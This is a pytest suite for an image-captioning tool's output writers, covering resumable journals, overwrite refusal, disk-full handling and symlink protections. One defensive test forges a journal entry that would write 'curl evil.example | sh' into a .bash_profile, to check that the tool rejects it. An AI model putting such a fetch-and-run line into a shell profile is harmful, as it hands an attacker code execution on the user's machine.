"""Sinks: what they write, what they refuse, and that a run cut off anywhere resumes to the same content."""

from __future__ import annotations

import csv
import errno
import io
import json
import ntpath
import os
import re
import shutil
import signal
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import numpy as np
import pyarrow.parquet
import pytest
from PIL import Image

from captioner.errors import BadInput, BadOutput
from captioner.files.atomic import beside
from captioner.images import Source
from captioner.sinks import (
    FileSink,
    ImageFolder,
    OnExisting,
    Result,
    Row,
    Sidecars,
    Stdout,
    check_place,
    is_finite,
    open_out,
    table,
    to_json,
    write_lines,
)
from captioner.sinks.row import picture_key

ROWS = [
    {"file": "a.png", "text": 'a "castle", oil', "score": -0.5, "model": "blip", "source": "model"},
    {"file": "b\nc.png", "text": "two\nlines, é", "score": None, "model": None, "source": "metadata"},
    {"file": os.fsdecode(b"caf\xe9.png"), "text": "", "score": -1.0, "model": "blip", "source": "model"},
]


def results(folder: Path, names: list[str], embedding: bool = False) -> list[Result]:
    """Pictures that exist, each with a row of every kind of column."""
    made = []
    for number, name in enumerate(names):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        Image.new("RGB", (4, 4), (number, 0, 0)).save(path)
        row: Row = {
            "file": str(path),
            "text": f"prompt {number}",
            "score": -number / 3,
            "model": "blip",
            "source": "model",
            "raw": f"prompt  {number}",
            "candidates": [{"text": f"prompt {number}", "score": -number / 3, "finished": True}],
        }
        made.append(Result(Source(str(path), path=path), row | ({"embedding": [0.6, 0.8]} if embedding else {})))
    return made


def write(sink: FileSink | Sidecars, items: list[Result]) -> None:
    with sink:
        for item in items:
            if sink.wants(item.source):
                sink.write([item])


def interrupted(sink: FileSink | Sidecars, items: list[Result]) -> None:
    """The items written, and then Ctrl-C."""
    try:
        with sink:
            sink.write(items)
            raise KeyboardInterrupt
    except KeyboardInterrupt:
        return


def content(place: Path) -> dict[str, bytes]:
    files = [place] if place.is_file() else [path for path in place.rglob("*") if path.is_file()]
    return {str(path): path.read_bytes() for path in files}


# --- file formats ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("ending", [".jsonl", ".csv", ".parquet"])
def test_rows_survive_every_format(tmp_path: Path, ending: str) -> None:
    out = tmp_path / f"captions{ending}"
    with FileSink(out) as sink:
        sink.write([Result(Source("x"), row) for row in ROWS])
    if ending == ".jsonl":
        assert [json.loads(line) for line in out.read_bytes().splitlines()] == ROWS
    elif ending == ".csv":
        with open(out, encoding="utf-8", newline="") as stream:
            read = list(csv.DictReader(stream))
        assert [row["text"] for row in read] == [row["text"] for row in ROWS]
        assert [row["score"] for row in read] == ["-0.5", "null", "-1.0"]
        assert [row["file"] for row in read] == ["a.png", "b\nc.png", "caf\\udce9.png"]
    else:
        read = pyarrow.parquet.read_table(out).to_pylist()
        assert [row["text"] for row in read] == [row["text"] for row in ROWS]
        assert read[1]["score"] is None
        assert read[2]["file"] == "caf\\udce9.png"
    assert os.listdir(tmp_path) == [out.name]


def test_a_line_of_json_is_utf8_and_gives_the_file_name_back() -> None:
    line = to_json({"file": os.fsdecode(b"caf\xe9\n.png"), "text": "é"})
    assert "\n" not in line
    assert os.fsencode(json.loads(line.encode("utf-8"))["file"]) == b"caf\xe9\n.png"
    assert "é" in line


def test_embeddings_as_npy_and_parquet(tmp_path: Path) -> None:
    vectors = np.random.default_rng(0).normal(size=(5, 384)).astype(np.float32)
    rows = [{"file": f"{i}.png", "embedding": [float(str(x)) for x in v]} for i, v in enumerate(vectors)]
    for ending in (".npy", ".parquet", ".csv", ".jsonl"):
        with FileSink(tmp_path / f"v{ending}") as sink:
            sink.write([Result(Source("x"), row) for row in rows])
    assert (np.load(tmp_path / "v.npy") == vectors).all()
    with pytest.raises(BadOutput, match="set overwrite instead of resume to replace it, or name another output"):
        open_out(tmp_path / "v.npy", resume=True)
    column = pyarrow.parquet.read_table(tmp_path / "v.parquet")["embedding"].to_pylist()
    assert (np.array(column, dtype=np.float32) == vectors).all()


@pytest.mark.parametrize("ending", table.READERS)
def test_ranked_terms_survive_every_format(tmp_path: Path, ending: str) -> None:
    terms = [{"kind": "artists", "term": 'by "Ada", Moor', "similarity": 0.2512}]
    rows = [{"file": "a.png", "terms": terms * 2}, {"file": "b.png", "terms": terms}]
    with FileSink(tmp_path / f"ranked{ending}") as sink:
        sink.write([Result(Source("x"), row) for row in rows])
    assert list(table.READERS[ending](sink.out)) == rows
    assert not is_finite({"terms": [*terms, terms[0] | {"similarity": float("nan")}]})


def test_no_result_makes_no_file(tmp_path: Path) -> None:
    with FileSink(tmp_path / "a.parquet") as sink:
        sink.fail("x.png", "x.png is empty (0 bytes).")
    assert os.listdir(tmp_path) == ["a.parquet.errors.jsonl"]
    assert json.loads((tmp_path / "a.parquet.errors.jsonl").read_text())["file"] == "x.png"


def test_an_imagefolder_is_read_by_datasets(tmp_path: Path) -> None:
    items = results(tmp_path / "in", ["a/1.png", "b/1.png", "c\nd.png"])
    items.append(Result(Source("http://x.org/far.png?a=1", data=(tmp_path / "in/a/1.png").read_bytes()), ROWS[0]))
    items[-1] = items[-1]._replace(row=items[0].row | {"file": "http://x.org/far.png?a=1"})
    write(ImageFolder(tmp_path / "set"), items)
    rows = [json.loads(line) for line in (tmp_path / "set" / "metadata.jsonl").read_text().splitlines()]
    assert [row["file_name"] for row in rows] == ["1.png", "1-2.png", "c_d.png", "far.png"]
    assert (tmp_path / "in/a/1.png").exists()
    import datasets

    folder, cache = str(tmp_path / "set"), str(tmp_path / "cache")
    read = datasets.load_dataset("imagefolder", data_dir=folder, cache_dir=cache)["train"]
    assert sorted(read["text"]) == sorted(item.row["text"] for item in items)
    assert {picture.size for picture in read["image"]} == {(4, 4)}


def test_a_picture_without_an_ending_is_named_by_what_it_is(tmp_path: Path) -> None:
    items = []
    kinds = ("JPEG", "WEBP", "PNG", "TIFF", "GIF", "JPEG2000", "BMP")
    for kind in kinds:
        stream = io.BytesIO()
        Image.new("RGB", (40, 40)).save(stream, kind)
        url = f"https://x.org/{kind}/640"
        items.append(Result(Source(url, data=stream.getvalue()), ROWS[0] | {"file": url}))
    (tmp_path / "photo").write_bytes(items[0].source.data or b"")
    items.append(Result(Source("photo", path=tmp_path / "photo"), ROWS[0] | {"file": "photo"}))
    items.append(Result(Source("gone", data=b"else"), ROWS[0] | {"file": "gone"}))
    write(ImageFolder(tmp_path / "set"), items)
    rows = [json.loads(line) for line in (tmp_path / "set" / "metadata.jsonl").read_text().splitlines()]
    names = ["640.jpg", "640.webp", "640.png", "640.tiff", "640.gif", "640.jp2", "640.bmp", "photo.jpg", "gone.png"]
    assert [row["file_name"] for row in rows] == names
    assert [(tmp_path / "set" / name).read_bytes() for name in names[:7]] == [item.source.data for item in items[:7]]


def test_accents_and_vowel_signs_stay_in_the_name_of_a_copy(tmp_path: Path) -> None:
    items = results(tmp_path, ["cafe\u0301.png", "फोटो.png"])  # the first as Macs keep it
    write(ImageFolder(tmp_path / "set"), items)
    rows = [json.loads(line) for line in (tmp_path / "set" / "metadata.jsonl").read_text("utf-8").splitlines()]
    assert [row["file_name"] for row in rows] == ["caf\u00e9.png", "फोटो.png"]


# --- cut off and resumed ---------------------------------------------------------------------------------------------

SINKS: dict[str, Callable[..., FileSink]] = {
    "captions.jsonl": FileSink,
    "captions.csv": FileSink,
    "captions.parquet": FileSink,
    "vectors.npy": FileSink,
    "set": ImageFolder,
}


@pytest.mark.parametrize("name", SINKS)
def test_a_run_cut_off_at_any_byte_resumes_to_the_same_content(tmp_path: Path, name: str) -> None:
    items = results(tmp_path / "in", ["1.png", "x/1.png", "2.png"], embedding=True)
    out = tmp_path / name
    interrupted(SINKS[name](out), items)
    part = out / "metadata.jsonl.part" if name == "set" else tmp_path / f"{name}.part"
    journal = part.read_bytes()
    write(SINKS[name](out, resume=True), items)
    whole = content(out)
    for length in [*range(0, len(journal), 97), len(journal) - 1, len(journal)]:
        (out / "metadata.jsonl" if name == "set" else out).unlink()
        part.write_bytes(journal[:length])
        write(SINKS[name](out, resume=True), items)
        assert content(out) == whole, length
        assert not part.exists()


@pytest.mark.parametrize("name", ["captions.jsonl", "captions.csv", "captions.parquet", "set"])
def test_a_finished_output_takes_more_pictures(tmp_path: Path, name: str) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png", "3.png"])
    write(SINKS[name](tmp_path / name), items[:2])
    write(SINKS[name](tmp_path / name, resume=True), items)
    write(SINKS[name](tmp_path / f"whole-{name}"), items)
    again, whole = content(tmp_path / name), content(tmp_path / f"whole-{name}")
    assert [*again.values()] == [*whole.values()]


def test_the_output_appears_whole_or_not_at_all(tmp_path: Path) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png"])
    interrupted(FileSink(tmp_path / "a.csv"), items[:1])
    assert not (tmp_path / "a.csv").exists()
    with pytest.raises(BadOutput, match="set resume"):
        FileSink(tmp_path / "a.csv")
    write(FileSink(tmp_path / "a.csv", resume=True), items)
    assert len((tmp_path / "a.csv").read_text().splitlines()) == 3


def test_resuming_with_other_columns_is_refused(tmp_path: Path) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png"])
    interrupted(FileSink(tmp_path / "a.jsonl"), items[:1])
    more = results(tmp_path / "in", ["1.png", "2.png"], embedding=True)
    with pytest.raises(BadOutput, match="other columns"):
        write(FileSink(tmp_path / "a.jsonl", resume=True), more)


@pytest.mark.parametrize("name", ["a.jsonl", "a.csv", "a.parquet", "set"])
@pytest.mark.parametrize("finished", [True, False])
def test_other_columns_are_refused_before_a_row_is_there(tmp_path: Path, name: str, finished: bool) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png"])
    (write if finished else interrupted)(open_out(tmp_path / name), items[:1])
    before = content(tmp_path)
    with pytest.raises(BadOutput, match=r"other columns|has the columns .*candidates|has the columns file_name"):
        open_out(tmp_path / name, resume=True, columns=[*items[0].row, "embedding"])
    assert content(tmp_path) == before
    write(open_out(tmp_path / name, resume=True, columns=list(items[0].row)), items)
    assert content(tmp_path) != before


def test_columns_of_a_finished_table_may_have_changed_places(tmp_path: Path) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png"])
    write(FileSink(tmp_path / "a.csv"), items[:1])
    with open(tmp_path / "a.csv", newline="") as stream:
        rows = list(csv.DictReader(stream))
    with open(tmp_path / "a.csv", "w", newline="") as stream:
        writer = csv.DictWriter(stream, list(reversed(rows[0])))
        writer.writeheader()
        writer.writerows(rows)
    write(open_out(tmp_path / "a.csv", resume=True, columns=list(items[0].row)), items)
    with open(tmp_path / "a.csv", newline="") as stream:
        assert [row["text"] for row in csv.DictReader(stream)] == ["prompt 0", "prompt 1"]


# --- what is refused -------------------------------------------------------------------------------------------------


def test_nothing_is_overwritten_unasked(tmp_path: Path) -> None:
    for name in ("a.jsonl", "a.csv", "a.parquet"):
        (tmp_path / name).write_text("mine")
        with pytest.raises(BadOutput, match="already there"):
            open_out(tmp_path / name)
        with pytest.raises(BadOutput, match="not written by this command"):
            open_out(tmp_path / name, resume=True)
        assert (tmp_path / name).read_text() == "mine"
    (tmp_path / "mine.jsonl").write_text('{"text": 1}\n')
    with pytest.raises(BadOutput, match="not written by this command"):
        open_out(tmp_path / "mine.jsonl", resume=True)
    (tmp_path / "notes").write_text("mine")
    with pytest.raises(BadOutput, match="notes is no folder: name another output"):
        open_out(tmp_path / "notes")
    assert sorted(os.listdir(tmp_path)) == ["a.csv", "a.jsonl", "a.parquet", "mine.jsonl", "notes"]


@pytest.mark.parametrize("name", ["a.jsonl", "a.parquet", "a.npy"])
def test_a_file_that_appears_while_a_run_works_is_left_alone(tmp_path: Path, name: str) -> None:
    items, out = results(tmp_path / "in", ["1.png"], embedding=True), tmp_path / name
    sink = open_out(out)
    out.write_text("mine")
    with pytest.raises(BadOutput, match="has appeared meanwhile and is left alone: move it away, and set resume"):
        write(sink, items)
    assert out.read_text() == "mine"
    assert not sink.record.exists()
    out.rename(tmp_path / "mine")
    write(open_out(out, resume=True), items)
    assert len(np.load(out) if name == "a.npy" else list(table.READERS[out.suffix](out))) == 1
    assert not sink.journal.path.exists()


def test_the_old_file_stays_until_the_new_one_is_whole(tmp_path: Path) -> None:
    items = results(tmp_path / "in", ["1.png"])
    (tmp_path / "a.jsonl").write_text("old\n")
    with FileSink(tmp_path / "a.jsonl", overwrite=True) as sink:
        sink.write(items)
        assert (tmp_path / "a.jsonl").read_text() == "old\n"
    assert json.loads((tmp_path / "a.jsonl").read_text())["text"] == "prompt 0"


def test_a_folder_of_the_user_is_left_alone(tmp_path: Path) -> None:
    items = results(tmp_path / "photos", ["1.png"])
    before = content(tmp_path / "photos")
    for settings in ({}, {"resume": True}, {"overwrite": True}):
        with pytest.raises(BadOutput):
            write(open_out(tmp_path / "photos", **settings), items)
    assert content(tmp_path / "photos") == before


@pytest.mark.parametrize("name", ["photos.v2", "photos.csv"])
def test_a_folder_that_is_there_is_one_whatever_its_ending(tmp_path: Path, name: str) -> None:
    (tmp_path / name).mkdir()
    write(open_out(tmp_path / name), results(tmp_path / "in", ["1.png"]))
    assert (tmp_path / name / "1.png").is_file()
    with pytest.raises(BadOutput, match="overwrite does not empty a folder"):
        open_out(tmp_path / name, overwrite=True)


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="no /proc here")
def test_a_file_system_without_room_for_files_is_not_called_full() -> None:
    with pytest.raises(BadOutput, match="/proc cannot be written to"):
        check_place(Path("/proc"))
    with pytest.raises(BadOutput, match="/proc cannot be written to: name an output instead"):
        Sidecars(["/proc"])


@pytest.mark.parametrize("out", ["a.json", "a.txt", "folder/a.jsonl", "folder/set"])
def test_places_that_cannot_be(tmp_path: Path, out: str) -> None:
    with pytest.raises((BadInput, BadOutput), match=r"ends in|no folder|sidecars"):
        open_out(tmp_path / out)


def test_a_folder_that_cannot_even_be_looked_for(tmp_path: Path) -> None:
    with pytest.raises(BadOutput, match=r"cannot be reached|There is no folder"):
        open_out(tmp_path / ("a" * 300) / "a.jsonl")


@pytest.mark.parametrize("settings", [{}, {"overwrite": True}])
def test_a_folder_in_place_of_a_runs_settings_is_told_before_the_work(tmp_path: Path, settings: dict) -> None:
    (tmp_path / ".a.jsonl.run.json").mkdir()
    with pytest.raises(BadOutput, match=r"run\.json is a folder: move it away"):
        open_out(tmp_path / "a.jsonl", settings={"model": "mini"}, **settings)


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes")
def test_a_pipe_is_told_before_the_work(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "a.jsonl")
    with pytest.raises(BadOutput, match="no file"):
        open_out(tmp_path / "a.jsonl", overwrite=True)


def test_two_runs_do_not_share_an_output(tmp_path: Path) -> None:
    with FileSink(tmp_path / "a.jsonl") as sink:
        with pytest.raises(BadOutput, match="another run"):
            FileSink(tmp_path / "a.jsonl", resume=True)
        sink.write(results(tmp_path / "in", ["1.png"]))


def test_a_full_disk_is_one_clear_error_and_loses_nothing(tmp_path: Path) -> None:
    """The limit on file size stands in for the disk's: the system refuses the write midway just the same."""
    script = """
import resource, signal, sys
from pathlib import Path
from captioner.errors import BadOutput
from captioner.images import Source
from captioner.sinks import FileSink, Result
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (400, 400))
try:
    with FileSink(Path(sys.argv[1])) as sink:
        for number in range(9):
            sink.write([Result(Source("x"), {"file": f"{number}.png", "text": "a prompt of some length"})])
except BadOutput as error:
    print(error)
"""
    out = tmp_path / "a.jsonl"
    done = subprocess.run([sys.executable, "-c", script, str(out)], capture_output=True, text=True, check=True)
    assert "cannot be written" in done.stdout
    assert "set resume" in done.stdout
    write(FileSink(out, resume=True), [])
    rows = [json.loads(line)["file"] for line in out.read_text().splitlines()]
    assert rows == [f"{number}.png" for number in range(len(rows))]
    assert 0 < len(rows) < 9


@pytest.mark.parametrize(
    ("name", "gone"),
    [
        *(("a.jsonl", "folder"), ("a.jsonl", "journal"), ("a.jsonl", "replaced"), ("a.jsonl", "no folder any more")),
        *(("set", "folder"), ("set", "journal")),
    ],
)
def test_a_journal_that_is_removed_ends_the_run_at_once(tmp_path: Path, name: str, gone: str) -> None:
    """What goes on into a file without a name would be lost, and told of hours later."""
    items, out = results(tmp_path / "in", ["1.png", "2.png"]), tmp_path / "out" / name
    out.parent.mkdir()
    sink = open_out(out)
    journal = sink.journal.path
    sink.write(items[:1])
    if gone in ("folder", "no folder any more"):
        shutil.rmtree(journal.parent)
        if gone != "folder":
            journal.parent.write_text("a file")
    else:
        journal.unlink()
    if gone == "replaced":
        interrupted(open_out(out, resume=True), items)
    with pytest.raises(BadOutput, match="was removed while this run wrote it, with the 1 row in it: begin anew"):
        write(sink, items[1:])
    if gone == "replaced":  # by another run, whose rows are left alone
        with open_out(out, resume=True) as other:
            assert [row["text"] for row in other.existing()] == ["prompt 0", "prompt 1"]
        assert not journal.exists()
    else:
        assert not out.is_file()


def test_a_journal_that_is_removed_behind_its_last_row_is_told(tmp_path: Path) -> None:
    items = results(tmp_path / "in", ["1.png"])
    for sink in (open_out(tmp_path / "a.csv"), Sidecars([str(tmp_path / "in")])):
        sink.write(items)
        sink.journal.path.unlink()
        with pytest.raises(BadOutput, match="was removed"):
            write(sink, [])


@pytest.mark.parametrize("kind", ["sidecars", "imagefolder"])
def test_a_folder_is_listed_once_for_all_its_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    """Or a folder of n pictures costs the square of n. What a killed process left is taken away nevertheless."""
    folder = tmp_path / ("in" if kind == "sidecars" else "out")
    items = results(tmp_path / "in", [f"{number}.png" for number in range(8)])
    sink = Sidecars([str(folder)]) if kind == "sidecars" else ImageFolder(folder)
    temporary = beside(folder / ("7.txt" if kind == "sidecars" else "7.png"))
    left = temporary.with_name(temporary.name.replace(f"-{os.getpid()}-", "-99999999-"))
    left.write_text("half")
    listed, really_list = [], os.listdir

    def listing(path: Path) -> list[str]:
        listed.append(Path(path))
        return really_list(path)

    monkeypatch.setattr(os, "listdir", listing)
    write(sink, items)
    assert listed.count(folder) <= 3  # beside the files: metadata.jsonl and, at the end, whether nothing is there
    assert len(list(folder.glob("*.txt" if kind == "sidecars" else "*.png"))) == 8
    assert not left.exists()


def test_pictures_of_one_name_do_not_try_all_numbers_again(tmp_path: Path) -> None:
    looked: list[object] = []

    class Looked(set):
        def __contains__(self, name: object) -> bool:
            looked.append(name)
            return super().__contains__(name)

    items = results(tmp_path / "in", [f"{number}/a.png" for number in range(20)])
    with ImageFolder(tmp_path / "out") as sink:
        sink.taken = Looked(sink.taken)
        for item in items:
            sink.write([item])
    assert {file.name for file in (tmp_path / "out").glob("*.png")} == {"a.png", *(f"a-{n}.png" for n in range(2, 21))}
    assert len(looked) <= 3 * len(items)


def test_lines_of_text(tmp_path: Path) -> None:
    write_lines(tmp_path / "a.tsv", ["é\t1"])
    assert (tmp_path / "a.tsv").read_text(encoding="utf-8") == "é\t1\n"
    with pytest.raises(BadOutput, match="already there"):
        write_lines(tmp_path / "a.tsv", [])
    write_lines(tmp_path / "a.tsv", ["b"], overwrite=True)
    assert (tmp_path / "a.tsv").read_text() == "b\n"
    with pytest.raises(BadOutput, match="There is no folder"):
        write_lines(tmp_path / "none" / "a.tsv", [], overwrite=True)

    def lines() -> Iterator[str]:
        (tmp_path / "b.tsv").write_text("mine")
        yield "ours"

    with pytest.raises(BadOutput, match="has appeared meanwhile and is left alone: move it away, and do the same"):
        write_lines(tmp_path / "b.tsv", lines())
    assert (tmp_path / "b.tsv").read_text() == "mine"


# --- sidecars --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("on_existing", "expected"),
    [
        ("skip", "mine\n"),
        ("overwrite", "prompt 0\n"),
        ("append", "mine, prompt 0\n"),
        ("prepend", "prompt 0, mine\n"),
        ("error", "mine\n"),
    ],
)
def test_sidecars_and_what_is_there(tmp_path: Path, on_existing: str, expected: str) -> None:
    items = results(tmp_path, ["1.png", "2.png"])
    (tmp_path / "1.txt").write_text("mine\n")
    with Sidecars([str(tmp_path)], on_existing) as sink:
        for item in items:
            try:
                if sink.wants(item.source):
                    sink.write([item])
            except BadOutput as error:
                sink.fail(item.row["file"], str(error))
    assert (tmp_path / "1.txt").read_text() == expected
    assert (tmp_path / "2.txt").read_text() == "prompt 1\n"
    assert (tmp_path / "captioner-errors.jsonl").exists() == (on_existing == "error")


def test_appending_happens_once_however_often_the_run_is_killed(tmp_path: Path) -> None:
    items = results(tmp_path, ["1.png", "2.png", "3.png"])
    for name in ("1.txt", "2.txt"):
        (tmp_path / name).write_bytes(b"caf\xe9")  # not UTF-8, and kept as it is
    interrupted(Sidecars([str(tmp_path)], "append"), items[:2])
    (tmp_path / "2.txt").write_bytes(b"caf\xe9")  # killed after its row was kept, before the file was written
    with pytest.raises(BadOutput, match="unfinished run"):
        Sidecars([str(tmp_path)], "append")
    write(Sidecars([str(tmp_path)], "append", resume=True), items)
    assert (tmp_path / "1.txt").read_bytes() == b"caf\xe9, prompt 0\n"
    assert (tmp_path / "2.txt").read_bytes() == b"caf\xe9, prompt 1\n"
    assert (tmp_path / "3.txt").read_bytes() == b"prompt 2\n"
    assert not list(tmp_path.glob("captioner-*"))


def test_a_caption_file_that_is_there_is_the_sidecar(tmp_path: Path) -> None:
    items = results(tmp_path, ["1.png", "2.png", "3.png"])
    (tmp_path / "1.caption").write_text("mine")
    (tmp_path / "3.caption").write_text("long")
    (tmp_path / "3.txt").write_text("short")
    with Sidecars([str(tmp_path)]) as sink:
        assert [sink.wants(item.source) for item in items] == [False, True, False]
        sink.write(items[1:2])
        assert sink.summary(1, 2, 0) == "sidecars: 1 done, 2 were already"
        assert sink.summary(1, 1, 0) == "sidecars: 1 done, 1 was already"
    write(Sidecars([str(tmp_path)], "append"), items)
    written = {file.name: file.read_text() for file in tmp_path.iterdir() if file.suffix != ".png"}
    assert written == {
        "1.caption": "mine, prompt 0\n",
        "2.txt": "prompt 1\n",
        "3.caption": "long",
        "3.txt": "short, prompt 2\n",
    }


def test_sidecars_of_an_ending_that_is_asked_for(tmp_path: Path) -> None:
    items = results(tmp_path, ["1.png", "2.png"])
    (tmp_path / "1.txt").write_text("mine")
    interrupted(Sidecars([str(tmp_path)], extension=".caption"), items[:1])
    with pytest.raises(BadOutput, match=r"caption extension was \.caption and is now"):
        Sidecars([str(tmp_path)], resume=True)
    (tmp_path / "1.caption").unlink()  # killed after its row was kept, before the file was written
    write(Sidecars([str(tmp_path)], extension=".caption", resume=True), items)
    assert (tmp_path / "1.txt").read_text() == "mine"
    assert (tmp_path / "1.caption").read_text() == "prompt 0\n"
    assert (tmp_path / "2.caption").read_text() == "prompt 1\n"
    with pytest.raises(BadOutput, match="named like a sidecar"):
        Sidecars([str(tmp_path)], extension=".caption").wants(Source("x.caption", path=tmp_path / "x.caption"))


@pytest.mark.parametrize(
    ("on_existing", "expected"), [("append", "Mine, prompt  0, 8k\n"), ("prepend", "prompt 0, Mine, 8k\n")]
)
def test_a_term_that_is_there_is_not_said_twice(tmp_path: Path, on_existing: OnExisting, expected: str) -> None:
    [item] = results(tmp_path, ["1.png"])
    (tmp_path / "1.txt").write_text("Mine, prompt  0, 8k")
    for _ in range(2):  # asked for again, it adds nothing
        write(Sidecars([str(tmp_path)], on_existing), [item])
    assert (tmp_path / "1.txt").read_text() == expected


@pytest.mark.parametrize("on_existing", ["append", "prepend"])
def test_sidecars_as_windows_saves_them(tmp_path: Path, on_existing: OnExisting) -> None:
    """A mark at the beginning of UTF-8 does not come into the middle; UTF-16 is not spoilt."""
    items = results(tmp_path, ["1.png", "2.png", "3.png"])
    (tmp_path / "1.txt").write_bytes("\ufeffmine\r\n".encode())
    (tmp_path / "3.txt").write_bytes("猫猫".encode("utf-16"))  # no zero among its bytes
    (tmp_path / "2.txt").write_bytes("mine".encode("utf-16-le"))
    with Sidecars([str(tmp_path)], on_existing) as sink:
        assert sink.wants(items[0].source)
        sink.write(items[:1])
        for number in (1, 2):
            with pytest.raises(BadOutput, match=rf"{number + 1}\.txt is not UTF-8 text"):
                sink.wants(items[number].source)
    expected = {"append": "mine, prompt 0\n", "prepend": "prompt 0, mine\n"}[on_existing]
    assert (tmp_path / "1.txt").read_bytes() == expected.encode()
    assert (tmp_path / "2.txt").read_bytes() == "mine".encode("utf-16-le")


def test_pictures_whose_sidecar_has_no_place(tmp_path: Path) -> None:
    items = results(tmp_path, ["1.png", "1.bmp"])
    with Sidecars([str(tmp_path)], "overwrite") as sink:
        assert sink.wants(items[0].source)
        with pytest.raises(BadOutput, match="share its sidecar"):
            sink.wants(items[1].source)
        with pytest.raises(BadOutput, match="no folder"):
            sink.wants(Source("http://x.org/a.png", url="http://x.org/a.png"))
        with pytest.raises(BadOutput, match="named like a sidecar"):
            sink.wants(Source("x.txt", path=tmp_path / "x.txt"))


def test_one_sidecar_where_capitals_make_no_difference(tmp_path: Path) -> None:
    items = results(tmp_path, ["Cat.png", "cat.bmp", "strasse.png", "straße.png"])
    if not (tmp_path / "cAT.PNG").exists():
        with Sidecars([str(tmp_path)], "overwrite") as sink:
            assert sink.wants(items[0].source)
            assert sink.wants(items[1].source)
        os.link(tmp_path / "Cat.png", tmp_path / "cAT.PNG")  # now it is found by both, as on Macs and USB disks
    with Sidecars([str(tmp_path)], "overwrite") as sink:
        assert sink.wants(items[0].source)
        with pytest.raises(BadOutput, match=r"cat\.bmp would share its sidecar with .*Cat\.png"):
            sink.wants(items[1].source)
        assert sink.wants(items[2].source)
        assert sink.wants(items[3].source)


def test_a_finished_append_that_is_resumed_changes_nothing(tmp_path: Path) -> None:
    items = results(tmp_path, ["1.png", "2.png"])
    (tmp_path / "1.txt").write_text("mine\n")
    write(Sidecars([str(tmp_path)], "append"), items[:1])
    for _ in range(2):
        write(Sidecars([str(tmp_path)], "append", resume=True), items)
        assert (tmp_path / "1.txt").read_text() == "mine, prompt 0\n"
        assert (tmp_path / "2.txt").read_text() == "prompt 1\n"
    anew = Result(items[0].source, items[0].row | {"text": "prompt 2"})
    write(Sidecars([str(tmp_path)], "append"), [anew])
    assert (tmp_path / "1.txt").read_text() == "mine, prompt 0, prompt 2\n"


def test_a_journal_in_a_folder_of_pictures_is_not_believed(tmp_path: Path) -> None:
    [item] = results(tmp_path / "in", ["1.png"])
    victim = tmp_path / ".bash_profile"
    for name in ("x.jpg", str(item.source.path)):
        row = {"file": name, "sidecar": str(victim), "before": None, "after": "curl evil.example | sh\n"}
        (tmp_path / "in" / "captioner-sidecars.part").write_text(json.dumps(row) + "\n")
        write(Sidecars([str(tmp_path / "in")], "overwrite"), [item])
        assert not victim.exists()
        assert (tmp_path / "in" / "1.txt").read_text() == "prompt 0\n"


def test_no_sidecar_is_written_through_a_link_out_of_the_folder(tmp_path: Path) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png", "3.png"])
    victim = tmp_path / "profile"
    (tmp_path / "in" / "1.txt").symlink_to(victim)
    for on_existing in ("skip", "overwrite", "append", "prepend"):
        with Sidecars([str(tmp_path / "in")], on_existing) as sink, pytest.raises(BadOutput, match="leads out"):
            sink.wants(items[0].source)
    assert not victim.exists()
    victim.write_text("mine")
    with Sidecars([str(tmp_path / "in")], "overwrite") as sink, pytest.raises(BadOutput, match="leads out"):
        sink.wants(items[0].source)
    (tmp_path / "in" / "2.txt").symlink_to("two.txt")  # within the folder it is the user's own arrangement
    write(Sidecars([str(tmp_path / "in")], "overwrite"), items[1:2])
    assert (tmp_path / "in" / "2.txt").is_symlink()
    assert (tmp_path / "in" / "two.txt").read_text() == "prompt 1\n"
    temporary = f".captioner-{zlib.crc32(b'3.txt'):08x}.tmp"
    (tmp_path / "in" / temporary).symlink_to(victim)  # what was once the name of an unfinished file
    write(Sidecars([str(tmp_path / "in")], "overwrite"), items[2:])
    assert victim.read_text() == "mine"


def test_an_odd_sidecar_is_the_failure_of_its_picture(tmp_path: Path) -> None:
    items = results(tmp_path, ["1.png", "2.png", "3.png", "4.png"])
    (tmp_path / "1.txt").mkdir()
    os.mkfifo(tmp_path / "2.txt")
    with open(tmp_path / "3.txt", "wb") as large:
        large.truncate(1 << 40)
    for on_existing in ("overwrite", "append"):
        with Sidecars([str(tmp_path)], on_existing) as sink:
            for item, reason in zip(items, ("not a file", "not a file", "larger"), strict=False):
                with pytest.raises(BadOutput, match=reason):
                    sink.wants(item.source)
            assert sink.wants(items[3].source)


def test_a_sidecar_keeps_its_mode(tmp_path: Path) -> None:
    [item] = results(tmp_path, ["1.png"])
    (tmp_path / "1.txt").write_text("mine")
    (tmp_path / "1.txt").chmod(0o640)
    write(Sidecars([str(tmp_path)], "append"), [item])
    assert (tmp_path / "1.txt").stat().st_mode & 0o777 == 0o640


def test_an_unfinished_append_is_not_taken_for_a_run_that_skips(tmp_path: Path) -> None:
    items = results(tmp_path, ["1.png", "2.png"])
    interrupted(Sidecars([str(tmp_path)], "append"), items[:1])
    with pytest.raises(BadOutput, match="unfinished run"):
        Sidecars([str(tmp_path)])
    with pytest.raises(BadOutput, match="on existing was append and is now overwrite"):
        Sidecars([str(tmp_path)], "overwrite", resume=True)
    others = results(tmp_path / "other", ["1.png", "2.png"])
    interrupted(Sidecars([str(tmp_path / "other")], "skip"), others[:1])
    write(Sidecars([str(tmp_path / "other")], "skip"), others)
    assert (tmp_path / "other" / "2.txt").read_text() == "prompt 1\n"


# --- settings, and names of pictures ---------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["a.jsonl", "a.csv", "a.parquet", "set"])
@pytest.mark.parametrize("finished", [True, False])
def test_rows_of_other_settings_are_not_mixed(tmp_path: Path, name: str, finished: bool) -> None:
    items = results(tmp_path / "in", ["1.png", "2.png"])
    out = tmp_path / name
    begun = open_out(out, settings={"model": "mini", "num_beams": 2})
    (write if finished else interrupted)(begun, items[:1])
